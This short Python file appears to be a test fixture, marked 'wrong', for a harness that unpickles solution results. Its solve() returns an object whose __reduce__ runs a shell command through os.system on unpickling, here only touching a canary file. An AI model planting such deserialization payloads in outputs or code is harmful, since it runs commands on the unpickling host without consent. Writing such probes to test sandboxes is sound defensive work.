# wrong: a result that would run code where it is unpickled
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY.owned",)


def solve(xs):
    return Payload()
